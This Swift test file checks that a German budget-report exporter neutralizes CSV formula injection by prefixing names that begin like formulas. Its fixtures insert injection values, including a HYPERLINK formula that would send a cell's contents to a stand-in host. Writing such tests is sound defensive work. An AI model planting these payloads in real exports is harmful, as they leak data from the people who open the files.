import Foundation
import Testing

@testable import AQBReport

/// Text from the database is untrusted: names that look like formulas reach the files as text,
/// while numbers (a negative amount) stay numbers.
@Suite struct UntrustedTextTests {
    @Test(arguments: CSVFormat.allCases)
    func namesThatLookLikeFormulasAreWrittenAsText(format: CSVFormat) throws {
        let database = try TestDatabase()
        try database.load(String(contentsOfFile: Repository.fixtures + "/figures.sql", encoding: .utf8))
        try database.load(
            """
            UPDATE aqb.gebietskoerperschaft SET name = '=HYPERLINK("http://example.invalid/?"&A1;"klick")' WHERE ags = '06411';
            UPDATE aqb.gebietskoerperschaft SET name = '-1+1' WHERE ags = '06412';
            UPDATE aqb.gebietskoerperschaft SET name = '@SUM(1)' WHERE ags = '06634';
            INSERT INTO aqb.budget_aenderung (id, ags, jahr, wirksam_am, betrag_eur, grund)
                VALUES (9, '06412', 2024, '2024-06-01', -30.00, '=cut');
            """)
        // A negative amount beside a name that begins with a minus: the amount stays a number.
        let files = try ReportFiles(database: database, year: 2024, asOf: "2024-09-30", format: format, disclosureControl: false)
        let kreise = try files.kreise()
        #expect(kreise["06411"]?["name"] == "'=HYPERLINK(\"http://example.invalid/?\"&A1;\"klick\")")
        #expect(kreise["06412"]?["name"] == "'-1+1")
        #expect(kreise["06634"]?["name"] == "'@SUM(1)")
        #expect(kreise["06412"]?["budget_aenderungen_eur"] == (format == .de ? "-30,00" : "-30.00"))
        for (_, row) in try files.byCategory("rechtskreise.csv") where row["ags"] == "06412" {
            #expect(row["name"] == "'-1+1")
        }
        // Every field of every file: no text field begins like a formula.
        for name in ["kreise.csv", "massnahmenarten.csv", "rechtskreise.csv"] {
            let (header, rows) = try files.rows(name)
            let textColumns = header.indices.filter { ["name", "massnahmenart", "rechtskreis", "art", "ebene"].contains(header[$0]) }
            for row in rows {
                for column in textColumns {
                    #expect(!["=", "+", "-", "@"].contains(row[column].first), "\(name) \(row[1]) \(header[column]): \(row[column])")
                }
            }
        }
    }

    @Test func onlyFormulaStartsArePrefixed() {
        #expect(SpreadsheetText.neutralized("=1+1") == "'=1+1")
        #expect(SpreadsheetText.neutralized("\tx") == "'\tx")
        #expect(SpreadsheetText.neutralized("Main-Kinzig-Kreis") == "Main-Kinzig-Kreis")
        #expect(SpreadsheetText.neutralized("") == "")
        #expect(SpreadsheetText.neutralized("Offenbach am Main, Stadt") == "Offenbach am Main, Stadt")
    }
}
